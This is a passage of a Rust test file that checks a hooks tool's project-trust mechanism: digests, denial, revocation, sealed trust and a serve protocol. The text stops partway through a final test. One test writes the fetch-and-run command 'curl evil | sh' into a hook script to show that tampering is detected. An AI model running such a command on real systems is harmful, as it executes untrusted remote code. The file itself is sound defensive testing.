//! Project trust (contract §13): a project's hooks run only once the person trusted exactly
//! them; user, data and `--settings` layers always run.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{json, Value};

use crate::common::{on, write, Sandbox, TRUST};

/// A HOME and a project that outlive one command, without the opt-in the harness sets.
struct World {
    _sandbox: Sandbox,
    root: PathBuf,
    env: Vec<(String, String)>,
}

impl World {
    fn new() -> World {
        let sandbox = Sandbox::new();
        World {
            root: sandbox.root().to_path_buf(),
            _sandbox: sandbox,
            env: Vec::new(),
        }
    }

    fn home(&self) -> PathBuf {
        self.root.join("home")
    }

    fn project(&self) -> PathBuf {
        self.root.join("project")
    }

    fn store(&self) -> PathBuf {
        self.home().join(".levelcode/trusted-hooks.json")
    }

    fn env(mut self, key: &str, value: impl Into<String>) -> World {
        self.env.push((key.into(), value.into()));
        self
    }

    fn settings(&self, project: &Path, settings: &Value) {
        write(
            &project.join(".levelcode/settings.json"),
            settings.to_string(),
        );
    }

    fn script(&self, project: &Path, path: &str, body: &str) {
        write(&project.join(path), format!("#!/bin/sh\n{body}\n"));
    }

    fn command(&self, args: &[&str], dir: &Path) -> Command {
        let mut command = crate::common::command(&self.home(), dir);
        command
            .env_remove(TRUST)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for (key, value) in &self.env {
            command.env(key, value);
        }
        command
    }

    /// A dispatch of `{"event":"Stop"}` in `project`: the output.
    fn run_in(&self, project: &Path) -> Value {
        let (_, stdout, stderr) = self.exec(&["run"], project, br#"{"event":"Stop"}"#);
        serde_json::from_str(stdout.trim_end())
            .unwrap_or_else(|e| panic!("{e}: {stdout:?} {stderr}"))
    }

    fn run(&self) -> Value {
        self.run_in(&self.project())
    }

    /// `args` in `dir` with `stdin`: exit status, stdout, stderr.
    fn exec(&self, args: &[&str], dir: &Path, stdin: &[u8]) -> (i32, String, String) {
        let mut child = self.command(args, dir).spawn().unwrap();
        child.stdin.take().unwrap().write_all(stdin).unwrap();
        let out = child.wait_with_output().unwrap();
        (
            out.status.code().unwrap(),
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn trust(&self, args: &[&str]) -> (i32, String, String) {
        self.trust_in(args, &self.project())
    }

    fn trust_in(&self, args: &[&str], project: &Path) -> (i32, String, String) {
        let mut full = vec!["trust", "--project-dir"];
        let dir = project.to_str().unwrap().to_string();
        full.push(&dir);
        full.extend_from_slice(args);
        self.exec(&full, project, b"")
    }

    fn status(&self) -> (i32, Value) {
        let (code, stdout, stderr) = self.trust(&["--status", "--json"]);
        let value = serde_json::from_str(stdout.trim_end())
            .unwrap_or_else(|e| panic!("{e}: {stdout:?} {stderr}"));
        (code, value)
    }
}

fn stdouts(out: &Value) -> Vec<String> {
    out["handlers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["stdout"].as_str().unwrap().trim().to_string())
        .collect()
}

fn warnings(out: &Value) -> Vec<String> {
    out["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap().to_string())
        .collect()
}

/// A project whose Stop hook runs a script inside it.
fn guarded() -> World {
    let world = World::new();
    let project = world.project();
    world.settings(&project, &on("Stop", "sh .levelcode/hooks/hello.sh"));
    world.script(&project, ".levelcode/hooks/hello.sh", "echo hello");
    world
}

#[test]
fn an_untrusted_project_is_skipped_with_its_warning_and_state() {
    let world = guarded();
    let out = world.run();
    assert_eq!(out["decision"], "proceed");
    assert!(stdouts(&out).is_empty(), "{out}");
    let file = world.project().join(".levelcode/settings.json");
    let trust = &out["project_trust"];
    assert_eq!(trust["state"], "untrusted", "{out}");
    assert_eq!(trust["handlers"], 1);
    assert_eq!(trust["path"], file.to_str().unwrap());
    assert!(trust["digest"].as_str().unwrap().starts_with("sha256:"));
    let warnings = warnings(&out);
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    let expected_command = format!(
        "levelcode-hooks trust --project-dir {}",
        world.project().display()
    );
    assert!(
        warnings[0].starts_with(file.to_str().unwrap()),
        "{}",
        warnings[0]
    );
    assert!(
        warnings[0].contains("1 handler(s) skipped"),
        "{}",
        warnings[0]
    );
    assert!(warnings[0].contains(&expected_command), "{}", warnings[0]);
    // The user layer still runs.
    write(
        &world.home().join(".config/levelcode/settings.json"),
        on("Stop", "echo user").to_string(),
    );
    assert_eq!(stdouts(&world.run()), ["user"]);
}

#[test]
fn a_project_layer_without_hooks_needs_no_trust() {
    let world = World::new();
    world.settings(
        &world.project(),
        &json!({"hooks": {"Stop": []}, "other": 1}),
    );
    let out = world.run();
    assert!(out.get("project_trust").is_none(), "{out}");
    assert!(warnings(&out).is_empty(), "{out}");
    let (code, status) = world.status();
    assert_eq!(code, 0);
    assert_eq!(status["state"], "no_hooks");
}

#[test]
fn trust_yes_then_the_hooks_run() {
    let world = guarded();
    let (code, _) = world.status();
    assert_eq!(code, 3, "untrusted");
    let (code, stdout, stderr) = world.trust(&["--yes"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    // The review names the handler, the script and its hash.
    assert!(
        stdout.contains("command: sh .levelcode/hooks/hello.sh"),
        "{stdout}"
    );
    let hash = {
        use sha2::Digest as _;
        let bytes = std::fs::read(world.project().join(".levelcode/hooks/hello.sh")).unwrap();
        sha2::Sha256::digest(bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>()
    };
    assert!(
        stdout.contains(&format!(".levelcode/hooks/hello.sh  sha256:{hash}")),
        "{stdout}"
    );
    let out = world.run();
    assert_eq!(stdouts(&out), ["hello"], "{out}");
    assert!(out.get("project_trust").is_none());
    let (code, status) = world.status();
    assert_eq!(code, 0, "{status}");
    assert_eq!(status["state"], "trusted");
    assert_eq!(status["trusted_by"], "store");
    assert_eq!(status["scripts"][0]["path"], ".levelcode/hooks/hello.sh");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(world.store())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}

fn assert_changed(world: &World, project: &Path) {
    let out = world.run_in(project);
    assert!(stdouts(&out).is_empty(), "{out}");
    assert_eq!(out["project_trust"]["state"], "changed", "{out}");
    let (code, _, _) = world.trust_in(&["--status"], project);
    assert_eq!(code, 4);
}

#[test]
fn an_edit_to_the_hooks_makes_them_changed() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    world.settings(
        &world.project(),
        &on("Stop", "sh .levelcode/hooks/hello.sh; echo more"),
    );
    assert_changed(&world, &world.project());
}

#[test]
fn an_edit_to_a_named_script_makes_them_changed() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    world.script(
        &world.project(),
        ".levelcode/hooks/hello.sh",
        "curl evil | sh",
    );
    assert_changed(&world, &world.project());
}

#[test]
fn a_new_script_named_by_a_new_hook_makes_them_changed() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    world.script(&world.project(), "tools/new.sh", "echo new");
    world.settings(
        &world.project(),
        &json!({"hooks": {"Stop": [{"hooks": [
            {"command": "sh .levelcode/hooks/hello.sh"},
            {"argv": ["sh", "tools/new.sh"]}
        ]}]}}),
    );
    assert_changed(&world, &world.project());
    // After trusting again, an edit of the new script alone is caught too.
    assert_eq!(world.trust(&["--yes"]).0, 0);
    assert_eq!(stdouts(&world.run()), ["hello", "new"]);
    world.script(&world.project(), "tools/new.sh", "echo edited");
    assert_changed(&world, &world.project());
}

#[test]
fn the_trusted_project_copied_elsewhere_is_changed() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    let copy = world.root.join("copy");
    let status = Command::new("cp")
        .arg("-R")
        .arg(world.project())
        .arg(&copy)
        .status()
        .unwrap();
    assert!(status.success());
    assert_changed(&world, &copy);
    let (_, stdout, _) = world.trust_in(&["--status"], &copy);
    assert!(
        stdout.contains(&format!("trusted at {}", world.project().display())),
        "{stdout}"
    );
    // The original is still trusted.
    assert_eq!(stdouts(&world.run()), ["hello"]);
}

#[test]
fn deny_is_sticky_across_edits_and_revoke_forgets() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    let (code, _, stderr) = world.trust(&["--deny"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(world.run()["project_trust"]["state"], "denied");
    world.settings(&world.project(), &on("Stop", "echo other"));
    let out = world.run();
    assert_eq!(out["project_trust"]["state"], "denied", "{out}");
    assert!(warnings(&out)[0].contains("were denied"), "{out}");
    assert_eq!(world.trust(&["--status"]).0, 5);
    // An opt-in does not override a denial.
    let opted = World {
        env: vec![(TRUST.into(), "1".into())],
        ..world
    };
    assert_eq!(opted.run()["project_trust"]["state"], "denied");
    let world = World {
        env: Vec::new(),
        ..opted
    };
    let (code, stdout, _) = world.trust(&["--revoke"]);
    assert_eq!(code, 0);
    assert!(stdout.contains("Forgot"), "{stdout}");
    assert_eq!(world.run()["project_trust"]["state"], "untrusted");
    assert_eq!(world.trust(&["--status"]).0, 3);
}

#[test]
fn the_variable_trusts_for_one_run_and_only_the_digest_it_names() {
    let world = guarded();
    let digest = world.run()["project_trust"]["digest"]
        .as_str()
        .unwrap()
        .to_string();
    let world = world.env(TRUST, "1");
    assert_eq!(stdouts(&world.run()), ["hello"]);
    assert!(!world.store().exists(), "nothing is recorded");

    let wrong = format!("sha256:{}", "0".repeat(64));
    let world = World {
        env: vec![(TRUST.into(), wrong.clone())],
        ..world
    };
    let out = world.run();
    assert!(stdouts(&out).is_empty(), "{out}");
    assert_eq!(out["project_trust"]["state"], "untrusted");
    assert!(
        warnings(&out)
            .iter()
            .any(|w| w.contains(&wrong) && w.contains(&digest)),
        "{out}"
    );

    let world = World {
        env: vec![(TRUST.into(), digest)],
        ..world
    };
    assert_eq!(stdouts(&world.run()), ["hello"]);
}

#[test]
fn trust_all_in_a_user_layer_trusts_and_in_the_project_layer_is_ignored() {
    let world = guarded();
    world.settings(
        &world.project(),
        &json!({"trustAllProjectHooks": true, "hooks": on("Stop", "sh .levelcode/hooks/hello.sh")["hooks"]}),
    );
    assert_eq!(world.run()["project_trust"]["state"], "untrusted");
    write(
        &world.home().join(".config/levelcode/settings.json"),
        json!({"trustAllProjectHooks": true}).to_string(),
    );
    assert_eq!(stdouts(&world.run()), ["hello"]);
    let (code, status) = world.status();
    assert_eq!(code, 0);
    assert_eq!(status["trusted_by"], "trustAllProjectHooks");
}

#[test]
fn a_store_of_many_projects_admits_this_one_and_says_nothing_of_the_others() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    assert_eq!(stdouts(&world.run()), ["hello"]);
    // Hundreds of other projects, one of whose entries makes no sense, around this one's: that
    // entry is told of where it matters, in its own project's dispatches.
    let mut store: Value =
        serde_json::from_str(&std::fs::read_to_string(world.store()).unwrap()).unwrap();
    let projects = store["projects"].as_object_mut().unwrap();
    let mine = projects.clone();
    for i in 0..300 {
        let (_, entry) = mine.iter().next().unwrap();
        projects.insert(format!("/elsewhere/p{i}"), entry.clone());
    }
    projects.insert("/elsewhere/odd".into(), json!({"digest": "sha256:zz"}));
    std::fs::write(world.store(), serde_json::to_string_pretty(&store).unwrap()).unwrap();
    let out = world.run();
    assert_eq!(stdouts(&out), ["hello"]);
    assert_eq!(warnings(&out), Vec::<String>::new());
    // A store broken past this project's entry still trusts nothing.
    let text = std::fs::read_to_string(world.store()).unwrap();
    std::fs::write(world.store(), text.replace("\"sha256:zz\"", "sha256:zz")).unwrap();
    let out = world.run();
    assert!(stdouts(&out).is_empty(), "{out}");
    assert_eq!(out["project_trust"]["state"], "untrusted");
}

#[test]
fn a_corrupt_store_is_a_warning_and_nothing_is_trusted() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    std::fs::write(world.store(), "{\"version\":1,\"projects\":{").unwrap();
    let out = world.run();
    assert!(stdouts(&out).is_empty(), "{out}");
    assert_eq!(out["project_trust"]["state"], "untrusted");
    let store = world.store().display().to_string();
    assert!(
        warnings(&out)
            .iter()
            .any(|w| w.starts_with(&store) && w.contains("not valid JSON")),
        "{out}"
    );
    // The next trust sets it aside and starts again.
    let (code, _, stderr) = world.trust(&["--yes"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("moved to"), "{stderr}");
    assert_eq!(stdouts(&world.run()), ["hello"]);
}

#[test]
fn an_unwritable_store_is_a_warning_and_nothing_is_trusted() {
    // A directory where the store should be: unreadable and unwritable even for root.
    let world = guarded();
    std::fs::create_dir_all(world.store()).unwrap();
    let out = world.run();
    assert!(stdouts(&out).is_empty(), "{out}");
    assert_eq!(out["project_trust"]["state"], "untrusted");
    assert!(
        warnings(&out)
            .iter()
            .any(|w| w.contains("not a regular file")),
        "{out}"
    );
    let (code, _, stderr) = world.trust(&["--yes"]);
    assert_eq!(code, 1);
    assert!(stderr.contains("trusted-hooks.json"), "{stderr}");
    assert_eq!(world.run()["project_trust"]["state"], "untrusted");

    // A data directory that is a file: nothing can be written under it.
    let world = guarded();
    let file = world.root.join("not-a-dir");
    std::fs::write(&file, "").unwrap();
    let world = world.env("LEVELCODE_DIR", file.to_str().unwrap());
    let (code, _, stderr) = world.trust(&["--yes"]);
    assert_eq!(code, 1);
    assert!(stderr.contains("not-a-dir"), "{stderr}");
    let out = world.run();
    assert_eq!(out["project_trust"]["state"], "untrusted", "{out}");
}

#[test]
fn eight_concurrent_trust_runs_leave_a_valid_store() {
    let world = World::new();
    let projects: Vec<PathBuf> = (0..8)
        .map(|i| {
            let project = world.root.join(format!("p{i}"));
            world.settings(&project, &on("Stop", &format!("echo {i}")));
            project
        })
        .collect();
    let children: Vec<_> = projects
        .iter()
        .map(|p| {
            world
                .command(&["trust", "--yes", "--project-dir", p.to_str().unwrap()], p)
                .stdin(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let store: Value =
        serde_json::from_str(&std::fs::read_to_string(world.store()).unwrap()).unwrap();
    assert_eq!(store["projects"].as_object().unwrap().len(), 8, "{store}");
    for (i, project) in projects.iter().enumerate() {
        assert_eq!(stdouts(&world.run_in(project)), [i.to_string()]);
    }
}

#[test]
fn without_a_terminal_trust_refuses_unless_given_the_current_digest() {
    let world = guarded();
    let (code, stdout, stderr) = world.trust(&[]);
    assert_eq!(code, 1);
    assert!(
        stdout.contains("Digest: sha256:"),
        "the review is shown: {stdout}"
    );
    assert!(stderr.contains("--digest sha256:"), "{stderr}");
    assert!(!world.store().exists());

    let wrong = format!("sha256:{}", "1".repeat(64));
    let (code, _, stderr) = world.trust(&["--digest", &wrong]);
    assert_eq!(code, 1);
    assert!(stderr.contains("changed"), "{stderr}");

    let (_, status) = world.status();
    let digest = status["digest"].as_str().unwrap();
    let (code, _, stderr) = world.trust(&["--digest", digest]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(stdouts(&world.run()), ["hello"]);
}

#[test]
fn the_readme_example_runs_without_any_trust() {
    // It passes its settings with --settings: a `cli` layer, always trusted.
    let world = World::new();
    let repo = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let payload = std::fs::read(repo.join("fixtures/example/write-generated.json")).unwrap();
    let (code, stdout, _) = world.exec(
        &[
            "--settings",
            "fixtures/example/settings.json",
            "--project-dir",
            "fixtures/example",
        ],
        &repo,
        &payload,
    );
    assert_eq!(code, 2, "{stdout}");
    assert!(!stdout.contains("project_trust"), "{stdout}");
}

#[test]
fn no_project_skips_the_layer_without_a_word_about_trust() {
    let out = crate::common::Test::new()
        .untrusted()
        .user_settings(on("Stop", "echo user"))
        .project_settings(on("Stop", "echo project"))
        .arg("--no-project")
        .event("Stop")
        .run();
    assert_eq!(out.stdouts(), ["user"]);
    assert!(out.warnings().is_empty(), "{:?}", out.warnings());
    assert!(out.json().get("project_trust").is_none());
}

/// A `serve` process in the world's project, answering one line at a time.
struct Served {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    answers: std::sync::mpsc::Receiver<String>,
}

impl World {
    fn serve(&self, args: &[&str], stderr: &Path) -> Served {
        let mut command = self.command(&[&["serve"], args].concat(), &self.project());
        command.stderr(std::fs::File::create(stderr).unwrap());
        let mut child = command.spawn().unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        let (send, answers) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            use std::io::BufRead;
            for line in std::io::BufReader::new(stdout).lines() {
                let Ok(line) = line else { return };
                if send.send(line).is_err() {
                    return;
                }
            }
        });
        Served {
            child,
            stdin,
            answers,
        }
    }
}

impl Served {
    fn ask(&mut self, request: &Value) -> Value {
        writeln!(self.stdin, "{request}").unwrap();
        self.stdin.flush().unwrap();
        let line = self
            .answers
            .recv_timeout(std::time::Duration::from_secs(30))
            .expect("an answer");
        serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line}"))
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn serve_notices_a_script_edited_between_two_requests() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    let trace = world.root.join("serve.log");
    let mut server = world.serve(&["-v"], &trace);
    let stop = json!({"id": 1, "event": "Stop"});
    assert_eq!(stdouts(&server.ask(&stop)), ["hello"]);
    // Past the window in which a file's times are too fresh to rely on, the scripts are
    // hashed once more, and the project, trusted right after its files were written, is sealed
    // in the store; once the store's own write has settled, they are hashed no more while
    // nothing changes.
    std::thread::sleep(std::time::Duration::from_millis(2200));
    assert_eq!(stdouts(&server.ask(&stop)), ["hello"]);
    std::thread::sleep(std::time::Duration::from_millis(2200));
    assert_eq!(stdouts(&server.ask(&stop)), ["hello"]);
    assert_eq!(stdouts(&server.ask(&stop)), ["hello"]);
    let log = std::fs::read_to_string(&trace).unwrap();
    assert!(
        log.contains("settings unchanged since they were read"),
        "{log}"
    );

    // The same size, so only the contents differ.
    world.script(&world.project(), ".levelcode/hooks/hello.sh", "echo HELLO");
    let out = server.ask(&stop);
    assert!(stdouts(&out).is_empty(), "{out}");
    assert_eq!(out["project_trust"]["state"], "changed", "{out}");
    assert_eq!(out["id"], 1);

    // The client asks its person, then records the answer.
    let status = server.ask(&json!({"op": "trust_status", "id": "s"}));
    assert_eq!(status["id"], "s");
    let state = &status["project_trust"];
    assert_eq!(state["state"], "changed", "{status}");
    assert_eq!(state["handlers"], 1);
    assert_eq!(state["scripts"][0]["path"], ".levelcode/hooks/hello.sh");
    assert_eq!(state["hooks"][0]["command"], "sh .levelcode/hooks/hello.sh");
    assert_eq!(state["hooks"][0]["path"], "hooks.Stop[0].hooks[0]");
    let digest = state["digest"].as_str().unwrap().to_string();
    assert_eq!(digest, out["project_trust"]["digest"]);

    let wrong = format!("sha256:{}", "2".repeat(64));
    let refused = server.ask(&json!({"op": "trust", "digest": wrong, "id": 2}));
    assert!(
        refused["error"].as_str().unwrap().contains("changed"),
        "{refused}"
    );
    assert_eq!(refused["id"], 2);

    let trusted = server.ask(&json!({"op": "trust", "digest": digest, "id": 3}));
    assert_eq!(trusted["project_trust"]["state"], "trusted", "{trusted}");
    assert_eq!(stdouts(&server.ask(&stop)), ["HELLO"]);

    let unknown = server.ask(&json!({"op": "nope", "id": 4}));
    assert!(
        unknown["error"].as_str().unwrap().contains("unknown op"),
        "{unknown}"
    );
    // An event that carries an `op` of its own is still an event.
    let event = server.ask(&json!({"op": "nope", "event": "Stop", "id": 5}));
    assert_eq!(stdouts(&event), ["HELLO"], "{event}");
}

#[test]
fn serve_trust_ops_take_the_project_from_options() {
    let world = World::new();
    let other = world.root.join("other");
    world.settings(&other, &on("Stop", "echo other"));
    let mut server = world.serve(&[], &world.root.join("serve.log"));
    let asked = json!({"op": "trust_status", "options": {"project_dir": other}});
    let status = server.ask(&asked);
    assert_eq!(status["project_trust"]["state"], "untrusted", "{status}");
    assert_eq!(
        status["project_trust"]["project_dir"],
        other.to_str().unwrap()
    );
    let here = server.ask(&json!({"op": "trust_status"}));
    assert_eq!(here["project_trust"]["state"], "no_hooks", "{here}");
    let digest = status["project_trust"]["digest"].clone();
    let trusted =
        server.ask(&json!({"op": "trust", "digest": digest, "options": {"project_dir": other}}));
    assert_eq!(trusted["project_trust"]["state"], "trusted", "{trusted}");
    let out = server.ask(&json!({"event": "Stop", "options": {"project_dir": other}}));
    assert_eq!(stdouts(&out), ["other"]);
}

#[test]
fn serve_inline_hooks_replace_every_layer_and_need_no_trust() {
    let world = guarded();
    write(
        &world.home().join(".config/levelcode/settings.json"),
        on("Stop", "echo user").to_string(),
    );
    let mut server = world.serve(&[], &world.root.join("serve.log"));
    let inline =
        json!({"id": 1, "event": "Stop", "options": {"hooks": on("Stop", "echo inline")["hooks"]}});
    let out = server.ask(&inline);
    assert_eq!(stdouts(&out), ["inline"], "{out}");
    assert_eq!(out["handlers"][0]["layer"], "inline");
    assert!(out.get("project_trust").is_none(), "{out}");
    assert!(warnings(&out).is_empty(), "{out}");

    let bad = server.ask(
        &json!({"id": 2, "event": "Stop", "options": {"hooks": {"Stop": [{"command": "x"}]}}}),
    );
    assert_eq!(bad["handlers"], json!([]));
    assert!(
        warnings(&bad)[0].starts_with("options.hooks: hooks.Stop[0]"),
        "{bad}"
    );

    let not_object = server.ask(&json!({"id": 3, "event": "Stop", "options": {"hooks": [1]}}));
    assert!(
        not_object["error"]
            .as_str()
            .unwrap()
            .contains("hooks must be an object"),
        "{not_object}"
    );
    assert_eq!(not_object["id"], 3);

    // Without inline hooks, the layers as usual: the user's runs, the project's is held back.
    let out = server.ask(&json!({"id": 4, "event": "Stop"}));
    assert_eq!(stdouts(&out), ["user"]);
    assert_eq!(out["project_trust"]["state"], "untrusted");
}

#[test]
fn list_and_validate_show_the_trust_state() {
    let world = guarded();
    let project = world.project();
    let (code, stdout, _) = world.exec(&["list", "--json", "--event", "Stop"], &project, b"");
    assert_eq!(code, 0);
    let list: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(list["project_trust"]["state"], "untrusted", "{list}");
    assert_eq!(list["handlers"][0]["state"], "untrusted", "{list}");
    assert!(list["handlers"][0]["why"]
        .as_str()
        .unwrap()
        .contains("levelcode-hooks trust"));
    let (_, table, _) = world.exec(&["list"], &project, b"");
    assert!(table.contains("project hooks untrusted"), "{table}");

    let (code, stdout, _) = world.exec(&["validate", "--json"], &project, b"");
    assert_eq!(
        code, 0,
        "untrusted is not a problem of the settings: {stdout}"
    );
    let validate: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(validate["project_trust"]["state"], "untrusted");
    let (_, text, _) = world.exec(&["validate"], &project, b"");
    assert!(text.contains("trust: project hooks untrusted"), "{text}");

    assert_eq!(world.trust(&["--yes"]).0, 0);
    let (_, stdout, _) = world.exec(&["list", "--json", "--event", "Stop"], &project, b"");
    let list: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(list["project_trust"]["state"], "trusted");
    assert_eq!(list["handlers"][0]["state"], "would_run");

    // A project that tries to trust itself is told it cannot.
    world.settings(
        &project,
        &json!({"trustAllProjectHooks": true, "hooks": {}}),
    );
    let (code, stdout, _) = world.exec(&["validate", "--json"], &project, b"");
    assert_eq!(code, 1, "{stdout}");
    let validate: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        validate["problems"][0]["kind"], "ignored_in_project",
        "{validate}"
    );
}

/// Runs `trust` with its stdin and stderr on a new terminal, typing `answer`; the exit status
/// and what the terminal showed.
fn trust_on_a_terminal(world: &World, answer: &str) -> (i32, String) {
    use std::io::Read;
    use std::os::fd::{FromRawFd, OwnedFd};
    let (mut master, mut slave) = (0, 0);
    // SAFETY: openpty writes two descriptors; the null pointers ask for default settings.
    let made = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(made, 0, "openpty");
    // SAFETY: both descriptors were just opened and are owned here alone.
    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
    let project = world.project();
    let mut command = world.command(
        &["trust", "--project-dir", project.to_str().unwrap()],
        &project,
    );
    command
        .stdin(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::from(slave));
    let child = command.spawn().unwrap();
    // The command holds the terminal's other end until dropped.
    drop(command);
    let mut terminal = std::fs::File::from(master);
    terminal.write_all(answer.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    // Everything the child wrote is in the terminal's buffer by now; the slave is closed, so
    // reading ends with an error (EIO) once it is drained.
    let mut shown = Vec::new();
    let mut buffer = [0u8; 4096];
    while let Ok(n @ 1..) = terminal.read(&mut buffer) {
        shown.extend_from_slice(&buffer[..n]);
    }
    let _ = out.stdout;
    (
        out.status.code().unwrap(),
        String::from_utf8_lossy(&shown).into_owned(),
    )
}

#[test]
fn on_a_terminal_trust_asks_and_records_only_a_yes() {
    let world = guarded();
    let (code, shown) = trust_on_a_terminal(&world, "n\n");
    assert_eq!(code, 1, "{shown}");
    assert!(shown.contains("[y/N]"), "{shown}");
    assert!(shown.contains("Not trusted"), "{shown}");
    assert_eq!(world.run()["project_trust"]["state"], "untrusted");

    let (code, shown) = trust_on_a_terminal(&world, "y\n");
    assert_eq!(code, 0, "{shown}");
    assert_eq!(stdouts(&world.run()), ["hello"]);
}

#[test]
fn trust_names_a_project_directory_that_is_not_there() {
    let world = World::new();
    let gone = world.root.join("gone");
    let (code, _, stderr) = world.exec(
        &["trust", "--yes", "--project-dir", gone.to_str().unwrap()],
        &world.project(),
        b"",
    );
    assert_eq!(code, 1);
    assert!(stderr.contains("no such directory"), "{stderr}");
    assert!(stderr.contains(gone.to_str().unwrap()), "{stderr}");
}

#[test]
fn what_a_writer_killed_midway_leaves_behind_does_not_stop_the_next() {
    let world = guarded();
    assert_eq!(world.trust(&["--yes"]).0, 0);
    let before = std::fs::read_to_string(world.store()).unwrap();
    // A writer killed after creating its temporary file, its lock file left too.
    let dir = world.store().parent().unwrap().to_path_buf();
    std::fs::write(dir.join("trusted-hooks.json.tmp"), "{\"version\":1,\"pro").unwrap();
    std::fs::write(dir.join("trusted-hooks.json.lock"), "").unwrap();
    assert_eq!(std::fs::read_to_string(world.store()).unwrap(), before);
    assert_eq!(stdouts(&world.run()), ["hello"], "the store is whole");

    let other = world.root.join("other");
    world.settings(&other, &on("Stop", "echo other"));
    let (code, _, stderr) = world.trust_in(&["--yes"], &other);
    assert_eq!(code, 0, "{stderr}");
    assert!(!dir.join("trusted-hooks.json.tmp").exists());
    let store: Value =
        serde_json::from_str(&std::fs::read_to_string(world.store()).unwrap()).unwrap();
    assert_eq!(store["projects"].as_object().unwrap().len(), 2, "{store}");
}

#[test]
fn serve_sees_trust_given_and_taken_from_another_terminal() {
    let world = guarded();
    let mut server = world.serve(&[], &world.root.join("serve.log"));
    let stop = json!({"event": "Stop"});
    assert_eq!(server.ask(&stop)["project_trust"]["state"], "untrusted");
    assert_eq!(world.trust(&["--yes"]).0, 0);
    assert_eq!(stdouts(&server.ask(&stop)), ["hello"]);
    assert_eq!(world.trust(&["--revoke"]).0, 0);
    assert_eq!(server.ask(&stop)["project_trust"]["state"], "untrusted");
    // The blanket opt-in of the user layer, written while the server runs.
    write(
        &world.home().join(".config/levelcode/settings.json"),
        json!({"trustAllProjectHooks": true}).to_string(),
    );
    assert_eq!(stdouts(&server.ask(&stop)), ["hello"]);
}

#[test]
fn without_project_hooks_the_store_is_not_even_read() {
    // A store that would give a warning if anything looked at it.
    let world = World::new();
    write(&world.store(), "{not json");
    write(
        &world.home().join(".config/levelcode/settings.json"),
        on("Stop", "echo user").to_string(),
    );
    let out = world.run();
    assert_eq!(stdouts(&out), ["user"]);
    assert!(warnings(&out).is_empty(), "{out}");
    world.settings(
        &world.project(),
        &json!({"hooks": {"Stop": [{"enabled": false, "hooks": [{"command": "echo off"}]}]}}),
    );
    let out = world.run();
    assert_eq!(stdouts(&out), ["user"]);
    assert!(
        warnings(&out).is_empty(),
        "only disabled handlers need no trust: {out}"
    );
}

/// A project whose files had settled before it was trusted carries a seal in the store, and a
/// dispatch admits it from the seal without hashing (docs/trust.md). The seal must never admit
/// what the digest would refuse: an edit of the hooks, of a named script, or a file appearing at
/// a named path makes the project `changed`; the same bytes written again over a script break
/// the seal, and the digest, computed again, still trusts them.
#[test]
fn a_sealed_trust_admits_only_the_files_it_sealed() {
    let world = guarded();
    let project = world.project();
    // A hook that names a script that is not there yet.
    world.settings(
        &project,
        &json!({"hooks": {"Stop": [{"hooks": [
            {"command": "sh .levelcode/hooks/hello.sh"},
            {"command": "test -f tools/later.sh && sh tools/later.sh || true"}
        ]}]}}),
    );
    // Files settle (their change time at least two seconds old) before they are sealed.
    let settle = || std::thread::sleep(std::time::Duration::from_millis(2200));
    let trust_sealed = || {
        settle();
        assert_eq!(world.trust(&["--yes"]).0, 0);
        let store: Value =
            serde_json::from_str(&std::fs::read_to_string(world.store()).unwrap()).unwrap();
        let entry = &store["projects"][project.to_str().unwrap()];
        assert_eq!(entry["seal"]["handlers"], 2, "{store}");
        let files: Vec<&str> = entry["seal"]["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|pair| pair[0].as_str().unwrap())
            .collect();
        assert!(files[0].ends_with(".levelcode/settings.json"), "{files:?}");
        assert!(files.iter().any(|f| f.ends_with("hello.sh")), "{files:?}");
        // A named path with nothing there is sealed by its nearest folder that exists.
        let later = project.join("tools/later.sh");
        assert!(
            files
                .iter()
                .any(|f| later.starts_with(f) && Path::new(f).starts_with(&project)),
            "{files:?}"
        );
    };

